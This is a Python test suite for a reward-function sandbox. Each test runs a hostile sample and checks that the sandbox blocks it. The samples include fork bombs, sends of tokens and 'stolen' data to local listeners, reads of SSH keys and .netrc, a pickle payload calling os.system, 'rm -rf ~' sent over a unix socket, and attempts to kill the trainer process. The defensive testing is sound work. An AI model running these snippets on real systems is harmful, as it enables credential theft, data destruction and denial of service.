"""The reward sandbox against real hostile reward functions: each limit is proven by breaking it (no mocks).

Limits are set low (512 MiB, 1-2 s, 16 processes, 32 files) so nothing here uses much of the machine.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from pathlib import Path

import pytest

from grpokit.data import Example
from grpokit.rewards import RewardManager
from grpokit.rewards.sandbox import SandboxLimits

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox's kernel parts are Linux")

LIMITS = SandboxLimits(memory_mb=512, max_procs=16, max_open_files=32, max_file_mb=8)
EX = Example(prompt="q", answer="1")


def _score_one(fn, limits: SandboxLimits = LIMITS, timeout_s: float = 5.0):
    """Score one completion with `fn` alone; returns (result, manager) with the manager closed."""
    with RewardManager([(fn, 1.0)], timeout_s=timeout_s, max_fail_frac=1.0, sandbox=limits) as m:
        result = m.score(["x"], [EX])
    return result, m


def _only_failure(result):
    [failure] = result.failures
    return failure


def _gone(pid: int, within_s: float = 3.0) -> bool:
    """Whether process `pid` has exited (or become a zombie) within `within_s` seconds."""
    deadline = time.monotonic() + within_s
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().split(")")[-1].split()[0] == "Z":
                    return True
        except FileNotFoundError:
            return True
        time.sleep(0.05)
    return False


def test_worker_reports_its_sandbox_and_still_scores() -> None:
    with RewardManager([(lambda c, e: [float(len(x)) for x in c], 1.0)], sandbox=LIMITS) as m:
        enforced = m.sandbox
        assert m.score(["abc"], [EX]).rewards == [3.0]
    assert set(enforced) >= {"network", "memory", "processes", "filesystem", "parent_death"}
    assert enforced["memory"].startswith("RLIMIT_AS 512 MiB")


def test_allocating_20_gib_is_a_memory_failure() -> None:
    def hog(completions, examples):
        block = bytearray(20 * 2**30)  # refused by RLIMIT_AS before any page is touched
        return [float(len(block))]

    failure = _only_failure(_score_one(hog)[0])
    assert failure.kind == "sandbox"
    assert failure.message.startswith("memory: out of the 512 MiB") and "MemoryError" in failure.message


def test_growing_memory_stops_near_the_limit() -> None:
    def grow(completions, examples):
        chunks = []
        while True:
            chunks.append(b"\x01" * (32 * 2**20))  # touched pages: real RSS, up to the 512 MiB allowance

    failure = _only_failure(_score_one(grow)[0])
    assert failure.kind == "sandbox" and failure.message.startswith("memory:")


def test_memory_of_programs_the_reward_runs_is_bounded_too() -> None:
    """RLIMIT_AS does not follow a program the reward runs; where a memory cgroup is available, it does."""

    def run_hog(completions, examples):
        # 16 MiB at a time, touching every page: resident memory reaches the 512 MiB group limit before the
        # address-space limit it inherited (the worker's size + 512 MiB) is reached
        hog = "x = [b'\\x01' * (16 * 2**20) for _ in range(64)]"
        proc = subprocess.run([sys.executable, "-I", "-S", "-c", hog], check=False)
        return [float(proc.returncode)]

    with RewardManager([(run_hog, 1.0)], timeout_s=30, max_fail_frac=1.0, sandbox=LIMITS) as m:
        if "memory cgroup" not in m.sandbox["memory"]:
            pytest.skip(f"no writable memory cgroup here: {m.sandbox['memory']}")
        result = m.score(["x"], [EX])
    # the kernel's OOM killer acts at the group's limit: it kills the program (the reward sees SIGKILL) or, when it
    # picks the worker itself, the sample fails with the memory limit named; the program never gets its 1 GiB
    if result.failures:
        assert result.failures[0].kind == "sandbox" and result.failures[0].message.startswith("memory:")
    else:
        assert result.rewards == [-float(signal.SIGKILL)]


def test_writing_outside_its_directory_is_denied_and_inside_is_allowed(tmp_path: Path) -> None:
    target = Path("/tmp") / f"grpokit-sandbox-escape-{uuid.uuid4().hex}"  # /tmp is world-writable

    def escape(completions, examples):
        target.write_text("escaped")
        return [1.0]

    try:
        failure = _only_failure(_score_one(escape)[0])
        assert failure.kind == "sandbox" and failure.message.startswith("filesystem: permission denied")
        assert str(target) in failure.message
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)

    def scratch(completions, examples):
        with open("scratch.txt", "w") as f:  # relative: the private working directory
            f.write("ok")
        import tempfile

        with tempfile.NamedTemporaryFile("w") as t:  # TMPDIR is the private directory too
            t.write("ok")
        return [1.0 if os.getcwd() == os.environ["TMPDIR"] == os.environ["HOME"] else 0.0]

    result, m = _score_one(scratch)
    assert result.rewards == [1.0] and result.failures == []
    assert m.worker.workdir is None  # closed: the worker and its private directory are gone


def test_private_directory_is_removed_with_the_worker() -> None:
    with RewardManager([(lambda c, e: [1.0], 1.0)], sandbox=LIMITS) as m:
        m.score(["x"], [EX])
        workdir = m.worker.workdir
        assert workdir is not None and os.path.isdir(workdir) and workdir.startswith(os.path.realpath("/tmp"))
    assert not os.path.exists(workdir)


def test_connecting_to_localhost_fails_and_reaches_no_one() -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.5)
    port = server.getsockname()[1]

    def phone_home(completions, examples):
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"stolen")
        return [1.0]

    try:
        failure = _only_failure(_score_one(phone_home)[0])
        assert failure.kind == "sandbox" and failure.message.startswith("network")
        with pytest.raises(TimeoutError):
            server.accept()  # nothing ever connected
    finally:
        server.close()


def test_network_can_be_allowed_explicitly() -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]

    def connect(completions, examples):
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            return [1.0]

    try:
        limits = SandboxLimits(memory_mb=512, network=True)
        result, m = _score_one(connect, limits)
        assert result.rewards == [1.0] and result.failures == []
    finally:
        server.close()


def test_fork_bomb_hits_the_process_limit_and_leaves_nothing_behind() -> None:
    def fork_bomb(completions, examples):
        for _ in range(500):
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        return [1.0]

    with RewardManager([(fork_bomb, 1.0)], timeout_s=10, max_fail_frac=1.0, sandbox=LIMITS) as m:
        m.worker.start()
        group = m.worker.pid
        t0 = time.perf_counter()
        failure = _only_failure(m.score(["x"], [EX]))
        assert time.perf_counter() - t0 < 5
        assert failure.kind == "sandbox" and failure.message.startswith("processes:")
        assert "at most 16 processes" in failure.message
        deadline = time.monotonic() + 3
        while _running_in_group(group) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _running_in_group(group) == [], "processes of the fork bomb are still running"


PF_EXITING = 0x4


def _running_in_group(pgid: int) -> list[int]:
    """Processes of process group `pgid` that are neither zombies nor already exiting (killed)."""
    running = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        state, group, flags = fields[0], int(fields[2]), int(fields[6])
        if group == pgid and state not in "ZX" and not flags & PF_EXITING:
            running.append(int(pid))
    return running


def test_sleeping_past_the_timeout_is_killed() -> None:
    def sleeper(completions, examples):
        time.sleep(60)
        return [1.0]

    t0 = time.perf_counter()
    failure = _only_failure(_score_one(sleeper, timeout_s=1.0)[0])
    assert failure.kind == "timeout" and time.perf_counter() - t0 < 5


def test_burning_cpu_past_the_cpu_limit_is_killed() -> None:
    def spin(completions, examples):
        while True:
            pass

    limits = SandboxLimits(memory_mb=512, cpu_s=1.0)
    t0 = time.perf_counter()
    failure = _only_failure(_score_one(spin, limits, timeout_s=20.0)[0])
    assert time.perf_counter() - t0 < 10  # the 20 s wall timeout never came into play
    assert failure.kind == "sandbox" and failure.message.startswith("cpu time: used more than 1 CPU seconds")


def test_opening_too_many_files_is_a_failure() -> None:
    def hoard(completions, examples):
        files = [open("/dev/null") for _ in range(200)]  # noqa: SIM115
        return [float(len(files))]

    failure = _only_failure(_score_one(hoard)[0])
    assert failure.kind == "sandbox" and failure.message.startswith("open files:")


def test_descriptors_inherited_from_the_trainer_are_closed(tmp_path: Path) -> None:
    log = (tmp_path / "metrics.jsonl").open("w")  # a file the trainer holds open for writing
    fd = log.fileno()

    def scribble(completions, examples):
        os.write(fd, b"garbage\n")
        return [1.0]

    try:
        failure = _only_failure(_score_one(scribble)[0])
    finally:
        log.close()
    assert failure.kind == "exception" and "Bad file descriptor" in failure.message
    assert (tmp_path / "metrics.jsonl").read_text() == ""


def test_reward_cannot_kill_the_trainer() -> None:
    trainer = os.getpid()

    def assassin(completions, examples):
        os.kill(trainer, signal.SIGKILL)
        return [1.0]

    failure = _only_failure(_score_one(assassin)[0])  # we are still here to read the result
    # denied (Landlock's signal scope), or no such process: the trainer is outside the worker's pid namespace
    assert "Operation not permitted" in failure.message or "ProcessLookupError" in failure.message


PARENT_SCRIPT = """
import os, subprocess, sys, time
from grpokit.data import Example
from grpokit.rewards import RewardManager

def host_pid():  # this process's pid as the trainer numbers it (/proc is the trainer's, even in a pid namespace)
    return int(os.readlink("/proc/self"))

def slow(completions, examples):
    r, w = os.pipe()
    child = os.fork()
    if child == 0:
        os.write(w, str(host_pid()).encode())
        time.sleep(60)
        os._exit(0)
    forked = int(os.read(r, 20))
    report = "import os, time; print(os.readlink('/proc/self'), flush=True); time.sleep(60)"
    # started without any death signal of its own
    program = subprocess.Popen([sys.executable, "-c", report], stdout=subprocess.PIPE, text=True)
    print("pids", host_pid(), forked, int(program.stdout.readline()), flush=True)
    time.sleep(60)
    return [1.0]

import logging
logging.basicConfig(stream=sys.stdout, format="%(message)s")  # what the worker prints reaches the trainer's log
m = RewardManager([(slow, 1.0)], timeout_s=120)
m.score(["x"], [Example("q", "1")])
"""


@pytest.mark.parametrize("sig", [signal.SIGKILL, signal.SIGTERM])
def test_killing_the_trainer_during_a_call_kills_the_worker(tmp_path: Path, sig: int) -> None:
    script = tmp_path / "trainer.py"
    script.write_text(PARENT_SCRIPT)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    proc = subprocess.Popen([sys.executable, str(script)], env=env, stdout=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()  # printed by the reward once the call is under way, through the trainer's log
        assert " printed: pids " in line, line
        worker, child, program = (int(x) for x in line.split(" printed: pids ")[1].split())
        proc.send_signal(sig)
        proc.wait(timeout=10)
        assert _gone(worker), "the reward worker outlived the trainer"
        assert _gone(child), "a process the reward forked outlived the trainer"
        with RewardManager([(lambda c, e: [1.0], 1.0)], sandbox=LIMITS) as m:
            in_own_pid_namespace = "process tree" in m.sandbox
        if in_own_pid_namespace:
            assert _gone(program), "a program the reward started outlived the trainer"
        else:
            os.kill(program, signal.SIGKILL)  # without a pid namespace only os.fork children are covered
    finally:
        proc.kill()
        proc.wait()


def test_keyboard_interrupt_in_a_reward_is_one_failure_without_traceback(tmp_path: Path) -> None:
    script = tmp_path / "run.py"
    script.write_text(
        "from grpokit.data import Example\n"
        "from grpokit.rewards import RewardManager\n"
        "def interrupt(completions, examples):\n"
        "    raise KeyboardInterrupt\n"
        "m = RewardManager([(interrupt, 1.0)], max_fail_frac=1.0)\n"
        "r = m.score(['a', 'b'], [Example('q', '1')] * 2)\n"
        "print([(f.index, f.kind) for f in r.failures])\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    out = subprocess.run([sys.executable, str(script)], env=env, capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip() == "[(0, 'exception'), (1, 'exception')]"
    assert "Traceback" not in out.stderr
    assert out.stderr.count("the reward raised KeyboardInterrupt") == 1  # one warning line for the batch


def test_private_directory_is_a_size_limited_tmpfs_only_the_worker_sees() -> None:
    limits = SandboxLimits(memory_mb=512, max_file_mb=8, max_dir_mb=16)

    def fill(completions, examples):
        with open("note.txt", "w") as f:
            f.write("the worker sees this")
        if completions[0] == "fill":
            for i in range(3):  # 3 x 8 MiB > 16 MiB
                with open(f"block{i}", "wb") as f:
                    f.write(b"\0" * (8 * 2**20))
        return [float(len(os.listdir(".")))]

    with RewardManager([(fill, 1.0)], max_fail_frac=1.0, sandbox=limits) as m:
        if not m.sandbox["directory"].startswith("private tmpfs"):
            pytest.skip(f"no private mount namespace here: {m.sandbox['directory']}")
        assert m.score(["note"], [EX]).rewards == [1.0]
        assert os.listdir(m.worker.workdir) == []  # mounted in the worker's namespace only
        [failure] = m.score(["fill"], [EX]).failures
    assert failure.kind == "sandbox"
    assert failure.message.startswith("directory size:") and "at most 16 MiB" in failure.message


FALLBACK_SCRIPT = """
import os, socket, sys
from grpokit.rewards.sandbox import SandboxLimits, _install_audit_hook
from grpokit.rewards.violations import classify_violation
os.chdir(sys.argv[1])
_install_audit_hook(block_network=True, roots=[os.path.realpath(sys.argv[1])])
limits = SandboxLimits()
for name, action in [
    ("connect", lambda: socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=1)),
    ("write outside", lambda: open(sys.argv[3], "w")),
    ("remove outside", lambda: os.remove(sys.argv[4])),
    ("write inside", lambda: open("inside.txt", "w").write("ok")),
]:
    try:
        action()
        print(name, "allowed")
    except OSError as e:
        print(name, classify_violation(e, limits))
"""


def test_audit_hook_fallback_blocks_python_level_network_and_writes(tmp_path: Path) -> None:
    """Where neither namespaces nor Landlock exist, the audit hook is the wall (Python code only)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    workdir, outside, keep = tmp_path / "work", tmp_path / "outside.txt", tmp_path / "keep.txt"
    workdir.mkdir()
    keep.write_text("keep")
    script = tmp_path / "fallback.py"
    script.write_text(FALLBACK_SCRIPT)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    args = [str(workdir), str(server.getsockname()[1]), str(outside), str(keep)]
    try:
        out = subprocess.run([sys.executable, str(script), *args], env=env, capture_output=True, text=True, timeout=60)
    finally:
        server.close()
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines() == [
        "connect network: network access is disabled in the reward sandbox (socket.getaddrinfo)",
        f"write outside filesystem: writing outside the reward's directory is denied: {outside}",
        f"remove outside filesystem: os.remove outside the reward's directory is denied: {keep}",
        "write inside allowed",
    ]
    assert not outside.exists() and keep.read_text() == "keep" and (workdir / "inside.txt").read_text() == "ok"


def test_worker_is_replaced_when_its_lifetime_cpu_budget_runs_out() -> None:
    """CPU is limited per call (whole seconds) within a lifetime hard limit; when a call's allowance no longer
    fits, a fresh worker takes the call."""

    def burn(completions, examples):
        t = time.process_time()
        while time.process_time() - t < 0.05:
            pass
        return [1.0]

    limits = SandboxLimits(memory_mb=512, cpu_s=0.5, cpu_budget_s=1.0)  # about 1 CPU second per worker
    calls = 0
    with RewardManager([(burn, 1.0)], timeout_s=10, sandbox=limits) as m:
        while m.worker.started < 2 and calls < 60:
            assert m.score(["x"], [EX]).failures == []
            calls += 1
    assert m.worker.started == 2 and 5 <= calls < 60


def test_a_sandbox_that_cannot_be_set_up_fails_each_sample_with_the_reason() -> None:
    limits = SandboxLimits(writable=("/no/such/dir",))
    with RewardManager([(lambda c, e: [1.0] * len(c), 1.0)], max_fail_frac=1.0, sandbox=limits) as m:
        [failure] = m.score(["x"], [EX]).failures
    assert failure.kind == "exception"
    assert "the reward sandbox could not be set up" in failure.message
    assert "['/no/such/dir']" in failure.message and "sandbox=None skips it" in failure.message


SECRETS = {  # credentials under names no "*TOKEN*"-style filter finds
    "DATABASE_URL": "postgres://admin:hunter2@db/prod",
    "GH_PAT": "ghp_s3cret",
    "HTTPS_PROXY": "http://user:pass@proxy:3128",
    "MLFLOW_TRACKING_URI": "https://user:pass@mlflow",
    "PIP_INDEX_URL": "https://user:pass@pypi.internal/simple",
    "SENTRY_DSN": "https://key@sentry.io/1",
    "GRPOKIT_TEST_API_KEY": "s3cret",
}


def _seen(names: list[str]):
    """A reward returning, per name, 1.0 when that environment variable reached it (one completion per name)."""
    return lambda completions, examples: [float(n in os.environ) for n in names]


def test_only_allow_listed_or_passed_through_variables_reach_the_reward(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.setenv("WANDB_PROJECT", "x")
    secrets = sorted(SECRETS)
    names = [*secrets, "PATH", "OMP_NUM_THREADS", "WANDB_PROJECT"]
    examples = [EX] * len(names)
    with RewardManager([(_seen(names), 1.0)], sandbox=LIMITS) as m:
        assert dict(zip(names, m.score(names, examples).rewards)) == {
            **dict.fromkeys(secrets, 0.0),
            **dict.fromkeys(["PATH", "OMP_NUM_THREADS"], 1.0),
            "WANDB_PROJECT": 0.0,
        }
        assert m.sandbox["environment"].startswith("allow-list")
    # a name passed through, exactly or by pattern, does reach it; with the network allowed nothing more does
    limits = SandboxLimits(memory_mb=512, network=True, env=("GRPOKIT_TEST_API_KEY", "WANDB_*"))
    with RewardManager([(_seen(names), 1.0)], sandbox=limits) as m:
        seen = dict(zip(names, m.score(names, examples).rewards))
    assert seen == {**dict.fromkeys(secrets, 0.0), "GRPOKIT_TEST_API_KEY": 1.0} | dict.fromkeys(
        ["PATH", "OMP_NUM_THREADS", "WANDB_PROJECT"], 1.0
    )


def _read(paths: list[str]):
    """A reward returning, per completion, 1.0 when it could read the file that completion names."""

    def read(completions, examples):
        out = []
        for path in completions:
            try:
                with open(path, "rb") as f:
                    f.read()
                out.append(1.0)
            except PermissionError:
                out.append(0.0)
        return out

    return read


def test_reward_reads_only_python_the_system_and_what_it_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With read=limited (the default) ~/.ssh and any file outside Python, the system and the given paths are
    unreadable, where Landlock is available; read=all and readable=(...) widen it, each by name."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    key = home / ".ssh" / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----")
    elsewhere = tmp_path / "elsewhere" / "notes.txt"
    elsewhere.parent.mkdir()
    elsewhere.write_text("private")
    monkeypatch.setenv("HOME", str(home))
    trainer_env = f"/proc/{os.getpid()}/environ"
    files = [str(key), str(elsewhere), trainer_env, sys.executable, "/etc/passwd"]
    examples = [EX] * len(files)
    with RewardManager([(_read(files), 1.0)], max_fail_frac=1.0, sandbox=LIMITS) as m:
        if m.sandbox["filesystem"] != "landlock":
            pytest.skip(f"no Landlock here: {m.sandbox['filesystem']}")
        assert m.score(files, examples).rewards == [0.0, 0.0, 0.0, 1.0, 1.0]
    wider = SandboxLimits(memory_mb=512, readable=(str(elsewhere.parent),))
    with RewardManager([(_read(files), 1.0)], max_fail_frac=1.0, sandbox=wider) as m:
        assert m.score(files, examples).rewards == [0.0, 1.0, 0.0, 1.0, 1.0]
    everything = SandboxLimits(memory_mb=512, read="all")
    with RewardManager([(_read(files), 1.0)], max_fail_frac=1.0, sandbox=everything) as m:
        assert m.sandbox["reading"] == "not restricted (read=all)"
        assert m.score(files, examples).rewards == [1.0, 1.0, 0.0, 1.0, 1.0]  # the trainer stays out of reach


def test_a_denied_read_is_a_sandbox_failure_naming_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    secret = tmp_path / ".netrc"
    secret.write_text("machine api.example.com password s3cret")

    def steal(completions, examples):
        return [float(len(secret.read_text()))]

    failure = _only_failure(_score_one(steal)[0])
    assert failure.kind == "sandbox" and failure.message.startswith("filesystem: permission denied")
    assert str(secret) in failure.message and "reading only" in failure.message


def test_garbage_written_to_the_pipe_is_never_unpickled_by_the_trainer(tmp_path: Path) -> None:
    """A reward can write to its end of the pipe; the trainer reads JSON only, so a crafted pickle (which would
    run a command in the trainer, outside the sandbox) is rejected as an unreadable reply."""
    marker = tmp_path / "pwned"
    payload = f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()  # a pickle that calls os.system when loaded

    def forge(completions, examples):
        import struct

        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if fd > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith(("socket:", "pipe:")):
                    os.write(fd, struct.pack("!i", len(payload)) + payload)
            except OSError:  # the listing's own descriptor, gone by now
                pass
        return [1.0]

    failure = _only_failure(_score_one(forge)[0])
    assert failure.kind == "exception" and "unreadable reply (not a JSON reply" in failure.message
    assert not marker.exists()


def test_unix_sockets_are_denied(tmp_path: Path) -> None:
    """A pathname unix socket reaches a daemon outside any network namespace (a tmux socket is a shell)."""
    path = str(tmp_path / "daemon.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(1)
    server.settimeout(0.5)

    def knock(completions, examples):
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            s.sendall(b"rm -rf ~\n")
        return [1.0]

    try:
        failure = _only_failure(_score_one(knock)[0])
        assert failure.kind == "sandbox" and "unix sockets" in failure.message
        with pytest.raises(TimeoutError):
            server.accept()
        # the same reward with network allowed does reach the daemon: the denial above is the sandbox's
        result, _ = _score_one(knock, SandboxLimits(memory_mb=512, network=True))
        assert result.rewards == [1.0]
        conn, _ = server.accept()
        assert conn.recv(100) == b"rm -rf ~\n"
        conn.close()
    finally:
        server.close()


def test_directories_of_killed_trainers_are_swept() -> None:
    from grpokit.rewards.isolation import WORKDIR_PREFIX, sweep_workdirs

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    base = Path(tempfile.gettempdir())
    orphan = base / f"{WORKDIR_PREFIX}{int(dead.stdout)}-test{uuid.uuid4().hex[:6]}"
    mine = base / f"{WORKDIR_PREFIX}{os.getpid()}-test{uuid.uuid4().hex[:6]}"
    try:
        for d in (orphan, mine):
            d.mkdir()
            (d / "left.txt").write_text("x")
            os.utime(d, (time.time() - 3600, time.time() - 3600))
        assert sweep_workdirs() >= 1
        assert not orphan.exists() and mine.exists()  # a live trainer's directory is never touched
    finally:
        for d in (orphan, mine):
            if d.exists():
                (d / "left.txt").unlink()
                d.rmdir()


def _pool_sum(completions, examples):
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=4) as pool:
        return list(pool.map(lambda c: float(len(c)), completions))


def _numpy_matmul(completions, examples):
    import numpy as np

    a = np.ones((256, 256))
    return [float((a @ a)[0, 0])] * len(completions)


def _torch_matmul(completions, examples):
    import torch

    a = torch.ones(256, 256)
    return [float((a @ a)[0, 0])] * len(completions)


@pytest.mark.parametrize(
    ("fn", "expected"), [(_pool_sum, [2.0, 3.0]), (_numpy_matmul, [256.0] * 2), (_torch_matmul, [256.0] * 2)]
)
def test_a_reward_may_start_threads(fn, expected) -> None:
    """The pid namespace is entered by a supervisor; the process serving the calls lives inside it, where the
    kernel allows threads (thread pools of numpy, torch and concurrent.futures)."""
    limits = SandboxLimits(memory_mb=4096, max_procs=64, max_open_files=256)
    with RewardManager([(fn, 1.0)], timeout_s=60, max_fail_frac=1.0, sandbox=limits) as m:
        result = m.score(["ab", "abc"], [EX, EX])
        enforced = m.sandbox
    assert result.failures == [] and result.rewards == expected
    assert "process tree" in enforced or not enforced.get("user", "").startswith("own user namespace")


def _with_argument(token: str) -> list[int]:
    """Running processes (not zombies) whose command line holds `token`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if token.encode() in cmdline and state not in "ZX":
            found.append(int(pid))
    return found


@pytest.mark.parametrize("limits", [LIMITS, None], ids=["sandbox", "no sandbox"])
def test_processes_a_call_leaves_running_are_killed_when_it_returns(limits: SandboxLimits | None) -> None:
    """Programs started and not waited for (one in its own session, burning CPU) and a forked helper are gone
    once the call has returned, while the worker itself lives on."""
    token = f"grpokit-leftover-{uuid.uuid4().hex}"

    def litter(completions, examples):
        # each program leaves a mark in the private directory once it runs (the reward cannot list /proc)
        subprocess.Popen([sys.executable, "-c", "open('up1', 'w').close(); import time; time.sleep(600)", token])
        os.system(f"setsid sh -c ': > up2; while :; do :; done' {token} &")  # a busy loop outside its group
        r, w = os.pipe()
        if os.fork() == 0:
            os.write(w, os.readlink("/proc/self").encode())  # its pid as the trainer numbers it
            time.sleep(600)
            os._exit(0)
        helper = float(os.read(r, 20))
        deadline = time.monotonic() + 10
        while not (os.path.exists("up1") and os.path.exists("up2")) and time.monotonic() < deadline:
            time.sleep(0.02)  # both programs are running before the call returns
        return [helper]

    with RewardManager([(litter, 1.0)], timeout_s=30, max_fail_frac=1.0, sandbox=limits) as m:
        result = m.score(["x"], [EX])
        assert result.failures == []
        helper = int(result.rewards[0])
        assert _gone(helper, within_s=0.5), "the forked helper outlived the call"
        assert _with_argument(token) == [], "programs the call started are still running"
        worker = m.worker.pid
        assert m.score(["x"], [EX]).failures == [] and m.worker.pid == worker  # the same worker serves on
    assert _with_argument(token) == []


HOSTILE_MODULE = """
import os, socket

DONE = []  # what the import managed: a file written outside, the token seen, the token sent
try:
    with open({marker!r}, "w") as f:
        f.write(os.environ.get("HF_TOKEN", ""))
    DONE.append("wrote")
except OSError:
    pass
if os.environ.get("HF_TOKEN"):
    DONE.append("token")
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        s.sendall(os.environ.get("HF_TOKEN", "").encode())
    DONE.append("sent")
except OSError:
    pass


def reward(completions, examples):
    return [float(len(DONE))] * len(completions)
"""


@pytest.mark.parametrize("how", ["file", "module"])
def test_a_reward_modules_top_level_code_runs_only_in_the_sandbox(
    how: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The module named by a spec is imported and inspected in the sandboxed worker, never in the trainer: its
    top-level code can neither write outside, nor see HF_TOKEN, nor reach the network."""
    monkeypatch.setenv("HF_TOKEN", "hf_s3cret")
    marker = Path("/tmp") / f"grpokit-import-escape-{uuid.uuid4().hex}"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.5)
    name = f"hostile_{uuid.uuid4().hex[:8]}"
    path = tmp_path / f"{name}.py"
    path.write_text(HOSTILE_MODULE.format(marker=str(marker), port=server.getsockname()[1]))
    monkeypatch.syspath_prepend(str(tmp_path))
    spec = f"{path}:reward" if how == "file" else f"{name}:reward"
    try:
        with RewardManager([(spec, 1.0)], max_fail_frac=1.0, sandbox=LIMITS) as m:
            result = m.score(["x"], [EX])
        assert not marker.exists()
        with pytest.raises(TimeoutError):
            server.accept()
        assert not [k for k in sys.modules if name in k]  # the trainer never imported it
        assert result.rewards == [0.0]  # the import, in the worker, managed none of the three
        assert m.rewards[0].convention == "grpokit"  # inspected in the worker, reported back
    finally:
        server.close()
        marker.unlink(missing_ok=True)
    # errors still surface when the manager is built, reported by the worker
    path.write_text("raise RuntimeError('no GPU here')\n")
    with pytest.raises(ValueError, match=r"importing .*' failed with RuntimeError: no GPU here"):
        RewardManager([(spec, 1.0)], sandbox=LIMITS)
    path.write_text("def other(completions, examples):\n    return [1.0]\n")
    with pytest.raises(ValueError, match=r"has no attribute 'reward'; its public callables: \['other'\]"):
        RewardManager([(spec, 1.0)], sandbox=LIMITS)


def test_sandbox_config_keys_reach_the_worker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """reward.sandbox_env passes a variable on, the data file is readable, reward.sandbox_read is checked."""
    from grpokit.config import ConfigError, build_config
    from grpokit.training.session import reward_sandbox

    data = tmp_path / "data" / "train.jsonl"
    data.parent.mkdir()
    data.write_text('{"prompt": "1+1", "answer": "2"}\n')
    beside = data.parent / "answers_key.txt"
    beside.write_text("secret")
    monkeypatch.setenv("GH_PAT", "ghp_s3cret")
    monkeypatch.setenv("SENTRY_DSN", "https://key@sentry.io/1")
    cfg = build_config("grpo", overrides=[f"data.task={data}", "reward.sandbox_env=[GH_PAT]"])
    limits = reward_sandbox(cfg)
    assert limits.read == "limited" and limits.env == ("GH_PAT",) and str(data) in limits.readable

    def probe(completions, examples):
        got = [float(os.environ.get("GH_PAT") == "ghp_s3cret"), float("SENTRY_DSN" in os.environ)]
        for path in (data, beside):
            try:
                got.append(float(len(path.read_text()) > 0))
            except PermissionError:
                got.append(0.0)
        return [sum(v * 10**i for i, v in enumerate(got))]

    with RewardManager([(probe, 1.0)], sandbox=limits) as m:
        assert m.score(["x"], [EX]).rewards == [1.0 + 100.0]  # GH_PAT and the data file; not SENTRY_DSN or beside
    assert reward_sandbox(build_config("grpo", overrides=["reward.sandbox_read=all"])).read == "all"
    with pytest.raises(ConfigError, match=r"reward.sandbox_read='everything' is invalid: use limited .* or all"):
        build_config("grpo", overrides=["reward.sandbox_read=everything"])


def test_a_fresh_worker_imports_the_module_before_the_calls_timeout_starts(tmp_path: Path) -> None:
    """Each worker imports the reward module itself; after a timeout kills one, the next imports it again (here
    1.5 s, longer than the 1 s timeout) without that counting against the call it then serves."""
    path = tmp_path / "slow_import.py"
    path.write_text(
        "import time\ntime.sleep(1.5)\n\n\n"
        "def reward(completions, examples):\n"
        "    if 'hang' in completions[0]:\n        time.sleep(60)\n"
        "    return [1.0] * len(completions)\n"
    )
    with RewardManager([(f"{path}:reward", 1.0)], timeout_s=1.0, max_fail_frac=1.0, sandbox=LIMITS) as m:
        result = m.score(["hang", "fine"], [EX, EX])
        assert [(f.index, f.kind) for f in result.failures] == [(0, "timeout")]
        assert result.rewards[1] == 1.0 and m.worker.started == 3  # the batch, then the hanging sample, killed
